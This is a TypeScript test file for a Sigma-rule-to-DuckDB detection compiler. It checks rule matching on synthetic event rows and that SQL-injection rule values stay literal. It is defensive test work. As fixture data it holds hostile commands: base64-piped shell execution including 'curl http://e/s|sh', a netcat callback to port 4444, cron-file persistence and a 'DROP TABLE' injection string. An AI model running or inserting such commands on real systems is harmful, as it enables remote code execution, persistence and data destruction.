/**
 * Compiled Sigma rules run by DuckDB over hand-made `rule_events` rows:
 * public rules on the activity they describe, the row selection of each
 * logsource, modifier and condition semantics, null handling, and hostile
 * rule values that must match literally and never change the SQL.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DuckSession } from '../../../src/analyze/session.js';
import { compileSigmaFiles } from '../../../src/rules/sigma/compile.js';
import type { CompiledRule } from '../../../src/rules/types.js';
import { createRuleEvents, type RuleEventRow } from '../../helpers/rule-table.js';
import { PUBLIC_SIGMA } from '../../helpers/public-rules.js';

const PUBLIC = PUBLIC_SIGMA;
const O_RDONLY = 0;
const O_WRONLY = 1;
const O_CREAT = 64;
const O_TRUNC = 512;

/** An IPv4-only stand-in for the hs_cidr_contains macro of src/rules/ip-sql.ts (IPv6 never matches). */
const CIDR_STAND_IN = [
  `CREATE OR REPLACE MACRO hs_test_ipv4(ip) AS (CASE WHEN regexp_full_match(ip, '[0-9]+\\.[0-9]+\\.[0-9]+\\.[0-9]+') THEN
     (split_part(ip, '.', 1)::BIGINT << 24) + (split_part(ip, '.', 2)::BIGINT << 16) + (split_part(ip, '.', 3)::BIGINT << 8) + split_part(ip, '.', 4)::BIGINT END)`,
  `CREATE OR REPLACE MACRO hs_cidr_contains(cidr, ip) AS (CASE WHEN strpos(cidr, ':') > 0 OR strpos(ip, ':') > 0 THEN false ELSE
     (hs_test_ipv4(ip) >> (32 - split_part(cidr, '/', 2)::INTEGER)) = (hs_test_ipv4(split_part(cidr, '/', 1)) >> (32 - split_part(cidr, '/', 2)::INTEGER)) END)`,
];

let s: DuckSession;
beforeAll(async () => {
  s = await DuckSession.open();
  for (const sql of CIDR_STAND_IN) await s.query(sql);
});
afterAll(() => s.close());

function only(text: string, path = 'test.yml'): CompiledRule {
  const result = compileSigmaFiles([{ path, text }]);
  expect(result.skipped).toEqual([]);
  return result.compiled[0]!;
}

function publicRule(relative: string): CompiledRule {
  return only(readFileSync(join(PUBLIC, relative), 'utf8'), relative);
}

/** A rule over `category` whose detection is `detection` (YAML, indented under detection:). */
function rule(detection: string, category = 'process_creation', title = 'T'): CompiledRule {
  const lines = ['title: ' + JSON.stringify(title), 'id: t', 'author: Test', 'level: low', 'logsource:', '  product: linux', `  category: ${category}`, 'detection:'];
  return only([...lines, ...detection.split('\n').map((l) => `  ${l}`), ''].join('\n'));
}

/** The rids (1-based row numbers) the rule matches in `rows`, with messages. */
async function run(compiled: CompiledRule, rows: RuleEventRow[]): Promise<{ rid: number; message: string }[]> {
  await createRuleEvents(s, rows);
  if (!('where' in compiled.match)) throw new Error('expected a where rule');
  const out = await s.query(`SELECT rid, ${compiled.message} AS message FROM rule_events WHERE ${compiled.match.where} ORDER BY rid`);
  return out.map((r) => ({ rid: Number(r.rid), message: r.message as string }));
}
const rids = async (compiled: CompiledRule, rows: RuleEventRow[]) => (await run(compiled, rows)).map((r) => r.rid);

const exec = (proc_exe: string, proc_commandline: string, extra: RuleEventRow = {}): RuleEventRow => ({ kind: 'exec', syscall: 'execve', ret: 0, proc_exe, proc_commandline, ...extra });

describe('public rules on the activity they describe', () => {
  it('Linux Base64 Encoded Pipe to Shell matches a decoded command piped to sh', async () => {
    const r = publicRule('rules/linux/process_creation/proc_creation_lnx_base64_execution.yml');
    expect(r.title).toBe('Linux Base64 Encoded Pipe to Shell');
    expect(r.author).toBe('pH-T (Nextron Systems)');
    const out = await run(r, [
      exec('/usr/bin/bash', 'sh -c echo ZWNobyBoaQ== | base64 -d | sh'),
      exec('/usr/bin/base64', 'base64 -d /tmp/payload.b64'),
      exec('/usr/bin/bash', 'bash -c BASE64 -D x |BASH'),
      { kind: 'open', proc_exe: '/usr/bin/bash', proc_commandline: 'sh -c echo ZWNobyBoaQ== | base64 -d | sh', path: '/etc/passwd', open_flags: O_RDONLY },
      exec('/usr/bin/bash', 'bash -c base64 -d x | bash -s'),
    ]);
    expect(out).toEqual([
      { rid: 1, message: 'Linux Base64 Encoded Pipe to Shell: /usr/bin/bash sh -c echo ZWNobyBoaQ== | base64 -d | sh' },
      { rid: 3, message: 'Linux Base64 Encoded Pipe to Shell: /usr/bin/bash bash -c BASE64 -D x |BASH' },
      { rid: 5, message: 'Linux Base64 Encoded Pipe to Shell: /usr/bin/bash bash -c base64 -d x | bash -s' },
    ]);
  });

  it('File Deletion matches a shred of a file, not other tools or the unlink it does', async () => {
    const r = publicRule('rules/linux/process_creation/proc_creation_lnx_file_deletion.yml');
    expect(await rids(r, [
      exec('/usr/bin/shred', 'shred -u /tmp/loot.tar'),
      exec('/usr/bin/shredder', 'shredder x'),
      { kind: 'unlink', proc_exe: '/usr/bin/shred', path: '/tmp/loot.tar', ret: 0 },
      exec('/usr/bin/rm', 'rm -f /tmp/x'),
      { kind: 'exec_fail', proc_exe: '/usr/bin/shred', proc_commandline: 'shred', ret: -2, error: 'ENOENT' },
    ])).toEqual([1, 4]);
  });

  it('New Cron File Created matches a cron file written, renamed or linked into place', async () => {
    const r = publicRule('rules/linux/file_event/file_event_lnx_susp_cron_file_created.yml');
    const vi = { proc_exe: '/usr/bin/vi', proc_commandline: 'vi /etc/cron.d/evil' };
    const out = await run(r, [
      { kind: 'open', ...vi, path: '/etc/cron.d/evil', open_flags: O_WRONLY | O_CREAT | O_TRUNC, ret: 3 },
      { kind: 'open', ...vi, path: '/etc/cron.d/evil', open_flags: O_RDONLY, ret: 3 },
      { kind: 'open', ...vi, path: '/etc/cron.daily/apt', open_flags: O_WRONLY | O_CREAT, ret: 3 },
      { kind: 'rename', ...vi, path: '/tmp/x', path2: '/etc/cron.hourly/y', ret: 0 },
      { kind: 'rename', ...vi, path: '/etc/cron.d/a', path2: '/tmp/b', ret: 0 },
      { kind: 'open', ...vi, path: '/etc/cron.d/denied', open_flags: O_WRONLY | O_CREAT, ret: -13, error: 'EACCES' },
      { kind: 'symlink', ...vi, path: '/etc/crontab', path2: '/tmp/mine', ret: 0 },
      { kind: 'chmod', ...vi, path: '/etc/cron.d/evil', mode: 0o644, ret: 0 },
      { kind: 'open', ...vi, path: '/var/spool/cron/crontabs/root', open_flags: O_WRONLY | O_TRUNC, ret: 4 },
    ]);
    expect(out.map((o) => o.rid)).toEqual([1, 4, 7, 9]);
    expect(out[1]!.message).toBe('New Cron File Created: /usr/bin/vi vi /etc/cron.d/evil -> /etc/cron.hourly/y');
  });

  it('Potentially Suspicious Malware Callback Communication matches outbound connections to public addresses on callback ports', async () => {
    const r = publicRule('rules/linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml');
    const nc = { proc_exe: '/usr/bin/nc', proc_commandline: 'nc 203.0.113.5 4444', family: 'inet', l4proto: 'tcp' };
    const out = await run(r, [
      { kind: 'connect', ...nc, daddr: '203.0.113.5', dport: 4444, ret: -115, error: 'EINPROGRESS' },
      { kind: 'connect', ...nc, daddr: '10.1.2.3', dport: 4444, ret: 0 },
      { kind: 'accept', ...nc, daddr: '203.0.113.5', dport: 4444, ret: 5 },
      { kind: 'connect', ...nc, daddr: '203.0.113.5', dport: 443, ret: 0 },
      { kind: 'connect', ...nc, family: 'unix', unix_path: '/run/x.sock', ret: 0 },
      { kind: 'connect', ...nc, daddr: '192.168.1.1', dport: 2222, ret: 0 },
    ]);
    expect(out).toEqual([{ rid: 1, message: 'Potentially Suspicious Malware Callback Communication - Linux: /usr/bin/nc nc 203.0.113.5 4444 -> 203.0.113.5:4444' }]);
  });

  it('Potential Container Discovery Via Inodes Listing uses its regexes case-sensitively', async () => {
    const r = publicRule('rules/linux/process_creation/proc_creation_lnx_susp_inod_listing.yml');
    expect(await rids(r, [
      exec('/usr/bin/ls', 'ls -di /'),
      exec('/usr/bin/ls', 'ls -DI /'),
      exec('/usr/bin/ls', 'ls --inode --directory /'),
      exec('/usr/bin/ls', 'ls -i /home'),
    ])).toEqual([1, 3]);
  });
});

describe('logsource rows', () => {
  it('file_event takes creating and truncating opens, rename/link targets, symlink and mkdir paths, successful only', async () => {
    const r = rule('selection:\n  TargetFilename|startswith: /watched/\ncondition: selection', 'file_event');
    expect(await rids(r, [
      { kind: 'open', path: '/watched/a', open_flags: O_WRONLY | O_CREAT, ret: 3 },
      { kind: 'open', path: '/watched/b', open_flags: O_WRONLY | O_TRUNC, ret: 3 },
      { kind: 'open', path: '/watched/c', open_flags: O_WRONLY, ret: 3 },
      { kind: 'link', path: '/elsewhere', path2: '/watched/d', ret: 0 },
      { kind: 'link', path: '/watched/e', path2: '/elsewhere', ret: 0 },
      { kind: 'symlink', path: '/watched/f', path2: '/target/text', ret: 0 },
      { kind: 'mkdir', path: '/watched/g', ret: 0 },
      { kind: 'mkdir', path: '/watched/h', ret: -17, error: 'EEXIST' },
      { kind: 'unlink', path: '/watched/i', ret: 0 },
      { kind: 'truncate', path: '/watched/j', ret: 0 },
    ])).toEqual([1, 2, 4, 6, 7]);
  });

  it('file_delete takes successful unlinks, not the old name of a rename', async () => {
    const r = rule('selection:\n  TargetFilename|endswith: .log\ncondition: selection', 'file_delete');
    expect(await rids(r, [
      { kind: 'unlink', path: '/var/log/a.log', ret: 0 },
      { kind: 'unlink', path: '/var/log/b.log', ret: -2, error: 'ENOENT' },
      { kind: 'rename', path: '/var/log/c.log', path2: '/tmp/c', ret: 0 },
    ])).toEqual([1]);
  });

  it('file_change takes writes without O_CREAT, chmod, chown and truncate', async () => {
    const r = rule('selection:\n  TargetFilename: /etc/passwd\ncondition: selection', 'file_change');
    expect(await rids(r, [
      { kind: 'open', path: '/etc/passwd', open_flags: O_WRONLY, ret: 3 },
      { kind: 'open', path: '/etc/passwd', open_flags: O_WRONLY | O_CREAT, ret: 3 },
      { kind: 'open', path: '/etc/passwd', open_flags: O_RDONLY, ret: 3 },
      { kind: 'chmod', path: '/etc/passwd', ret: 0 },
      { kind: 'chown', path: '/etc/passwd', ret: 0 },
      { kind: 'truncate', path: '/etc/passwd', ret: 0 },
    ])).toEqual([1, 4, 5, 6]);
  });

  it('network_connection says Initiated false for accepted connections', async () => {
    const r = rule("selection:\n  Initiated: 'false'\n  SourcePort: 22\ncondition: selection", 'network_connection');
    expect(await rids(r, [
      { kind: 'accept', family: 'inet6', saddr: '::1', sport: 22, daddr: '::1', dport: 50000 },
      { kind: 'connect', family: 'inet', saddr: '10.0.0.1', sport: 22, daddr: '10.0.0.2', dport: 22 },
    ])).toEqual([1]);
  });

  it('dns_query matches the queried name', async () => {
    const r = rule('selection:\n  QueryName|endswith: .ngrok.io\ncondition: selection', 'dns_query');
    const out = await run(r, [
      { kind: 'dns', proc_exe: '/usr/bin/curl', proc_commandline: 'curl x', dns_query: 'abc.NGROK.io' },
      { kind: 'connect', proc_exe: '/usr/bin/curl', dns_query: 'abc.ngrok.io' },
    ]);
    expect(out).toEqual([{ rid: 1, message: 'T: /usr/bin/curl curl x query abc.NGROK.io' }]);
  });
});

describe('modifiers and conditions evaluated', () => {
  const cases: [string, string, RuleEventRow[], number[]][] = [
    ['a null value matches a missing or empty field', 'selection:\n  CurrentDirectory: null\ncondition: selection',
      [exec('/a', 'a', { proc_cwd: null }), exec('/a', 'a', { proc_cwd: '' }), exec('/a', 'a', { proc_cwd: '/tmp' })], [1, 2]],
    ['not of a condition on a null field is true', 'selection:\n  Image: /a\nfilter:\n  ParentImage|endswith: /sshd\ncondition: selection and not filter',
      [exec('/a', 'a', { parent_exe: null }), exec('/a', 'a', { parent_exe: '/usr/sbin/sshd' }), exec('/a', 'a', { parent_exe: '/bin/bash' })], [1, 3]],
    ['a condition on a null field is false', 'selection:\n  ParentImage|endswith: /sshd\ncondition: selection', [exec('/a', 'a', { parent_exe: null })], []],
    ['all needs every value', 'selection:\n  CommandLine|contains|all:\n    - -x\n    - -y\ncondition: selection',
      [exec('/a', 'a -x -y'), exec('/a', 'a -x'), exec('/a', 'a -y -x')], [1, 3]],
    ['a list of values needs any one', 'selection:\n  Image|endswith:\n    - /a\n    - /b\ncondition: selection',
      [exec('/x/a', ''), exec('/x/b', ''), exec('/x/c', '')], [1, 2]],
    ['a list of maps needs any map', 'selection:\n  - Image: /a\n  - CommandLine: go\ncondition: selection',
      [exec('/a', 'x'), exec('/b', 'GO'), exec('/b', 'x')], [1, 2]],
    ['exists true needs a value', 'selection:\n  CurrentDirectory|exists: true\ncondition: selection',
      [exec('/a', 'a', { proc_cwd: '/' }), exec('/a', 'a', { proc_cwd: null })], [1]],
    ['a number matches an integer column exactly', 'selection:\n  LogonId: 0\ncondition: selection',
      [exec('/a', 'a', { loginuid: 0 }), exec('/a', 'a', { loginuid: 1000 }), exec('/a', 'a', { loginuid: null })], [1]],
    ['a quoted number matches an integer column too', "selection:\n  ProcessId: '1234'\ncondition: selection",
      [exec('/a', 'a', { pid: 1234 }), exec('/a', 'a', { pid: 12345 })], [1]],
    ['a wildcard on an integer column matches its digits', "selection:\n  ProcessId: '12*'\ncondition: selection",
      [exec('/a', 'a', { pid: 1234 }), exec('/a', 'a', { pid: 312 })], [1]],
    ['1 of them skips identifiers starting with an underscore', 'sel_a:\n  Image: /a\n_sel_b:\n  Image: /b\ncondition: 1 of them',
      [exec('/a', ''), exec('/b', '')], [1]],
    ['all of a pattern needs every match', 'sel_img:\n  Image|endswith: /curl\nsel_cli:\n  CommandLine|contains: http\ncondition: all of sel_*',
      [exec('/usr/bin/curl', 'curl http://x'), exec('/usr/bin/curl', 'curl -V'), exec('/usr/bin/wget', 'wget http://x')], [1]],
    ['2 of a pattern needs two matches', 's1:\n  Image: /a\ns2:\n  CommandLine|contains: x\ns3:\n  User: root\ncondition: 2 of s*',
      [exec('/a', 'x', { user: 'bob' }), exec('/a', 'y', { user: 'bob' }), exec('/b', 'y', { user: 'root' }), exec('/b', 'x', { user: 'root' })], [1, 4]],
    ['gte compares an integer column', 'selection:\n  ProcessId|gte: 1024\ncondition: selection',
      [exec('/a', '', { pid: 1024 }), exec('/a', '', { pid: 80 }), exec('/a', '', { pid: null })], [1]],
    ['lt compares a text column as a number', 'selection:\n  User|lt: 10\ncondition: selection',
      [exec('/a', '', { user: '9' }), exec('/a', '', { user: '10' }), exec('/a', '', { user: 'root' })], [1]],
    ['fieldref compares two fields', 'selection:\n  ParentImage|fieldref: Image\ncondition: selection',
      [exec('/bin/sh', '', { parent_exe: '/BIN/SH' }), exec('/bin/sh', '', { parent_exe: '/bin/bash' })], [1]],
    ['re is case-sensitive by default', "selection:\n  CommandLine|re: 'base64\\s+-d'\ncondition: selection",
      [exec('/a', 'base64  -d x'), exec('/a', 'BASE64 -D x')], [1]],
    ['re|i is case-insensitive', "selection:\n  CommandLine|re|i: 'base64\\s+-d'\ncondition: selection",
      [exec('/a', 'base64  -d x'), exec('/a', 'BASE64 -D x')], [1, 2]],
    ['re|s lets a dot match a newline', "selection:\n  CommandLine|re|s: 'a.b'\ncondition: selection",
      [exec('/a', 'a\nb')], [1]],
    ['a regex dot does not match a newline without s', "selection:\n  CommandLine|re: 'a.b'\ncondition: selection",
      [exec('/a', 'a\nb')], []],
    ['windash matches slash and unicode dash variants', "selection:\n  CommandLine|windash|contains: ' -enc '\ncondition: selection",
      [exec('/a', 'x -enc y'), exec('/a', 'x /enc y'), exec('/a', 'x \u2013enc y'), exec('/a', 'x +enc y')], [1, 2, 3]],
    ['base64offset|contains finds an encoded command at any offset', "selection:\n  CommandLine|base64offset|contains: 'curl http'\ncondition: selection",
      [0, 1, 2].map((n) => exec('/bin/sh', `echo ${Buffer.from(`${'x'.repeat(n)}curl http://e/s|sh`).toString('base64')} | base64 -d | sh`)).concat([exec('/bin/sh', 'echo Y3VybA== | base64 -d')]), [1, 2, 3]],
    ['Hashes matches the SHA256 in Sysmon form', "selection:\n  Hashes|contains: 'SHA256=ABCDEF'\ncondition: selection",
      [exec('/a', '', { proc_sha256: 'abcdef0123' }), exec('/a', '', { proc_sha256: '0123abcdef' })], [1]],
    ['a question mark stands for one character', "selection:\n  Image: '/bin/?ash'\ncondition: selection",
      [exec('/bin/bash', ''), exec('/bin/dash', ''), exec('/bin/ash', '')], [1, 2]],
    ['cased keeps case', "selection:\n  CommandLine|contains|cased: 'Invoke'\ncondition: selection",
      [exec('/a', 'Invoke-X'), exec('/a', 'invoke-x')], [1]],
    ['a list of conditions means any of them', 'a:\n  Image: /a\nb:\n  Image: /b\ncondition:\n  - a\n  - b',
      [exec('/a', ''), exec('/b', ''), exec('/c', '')], [1, 2]],
  ];
  it.each(cases)('%s', async (_name, detection, rows, expected) => {
    expect(await rids(rule(detection), rows)).toEqual(expected);
  });
});

describe('hostile rule values', () => {
  const hostile: [string, string, string, string][] = [
    ['a single quote', "it's", "say it's here", 'say its here'],
    ['an SQL injection attempt', "x'); DROP TABLE rule_events; --", "a x'); DROP TABLE rule_events; -- b", 'a x b'],
    ['a percent sign', '100%', 'at 100% load', 'at 1000 load'],
    ['an underscore', 'a_b', 'xa_by', 'xaXby'],
    ['a backslash', 'C:\\temp', 'dir C:\\temp', 'dir C:temp'],
    ['a backslash before a quote', "\\'", "x\\'y", "x'y"],
    ['a newline', 'line1\nline2', 'line1\nline2', 'line1 line2'],
    ['a double quote', 'say "hi"', 'x say "hi" y', 'x say hi y'],
    ['an escaped wildcard next to SQL wildcards', '%\\*_', 'a%*_b', 'a%x_b'],
  ];
  it.each(hostile)('%s in a value is matched literally and never changes the SQL', async (_name, value, matching, near) => {
    const compiled = rule(`selection:\n  CommandLine|contains: ${JSON.stringify(value)}\ncondition: selection`, 'process_creation', `Rule with ${value}`);
    const out = await run(compiled, [exec('/a', matching), exec('/a', near)]);
    expect(out).toEqual([{ rid: 1, message: `Rule with ${value}: /a ${matching}` }]);
    const count = await s.query('SELECT count(*) AS n FROM rule_events');
    expect(count[0]!.n).toBe(2n);
  });

  it('hostile values with wildcards go through LIKE with SQL wildcards escaped', async () => {
    const compiled = rule(`selection:\n  CommandLine: ${JSON.stringify("*'%_\\\\*")}\ncondition: selection`);
    expect(await rids(compiled, [exec('/a', "x'%_\\"), exec('/a', "x'ab\\"), exec('/a', "x'%_\\y")])).toEqual([1, 3]);
  });

  it('a hostile regex value stays one string literal', async () => {
    const compiled = rule(`selection:\n  CommandLine|re: ${JSON.stringify("'\\)|'; SELECT 1; --")}\ncondition: selection`);
    expect(await rids(compiled, [exec('/a', "')|'; SELECT 1; --"), exec('/a', 'nothing')])).toEqual([1]);
  });
});
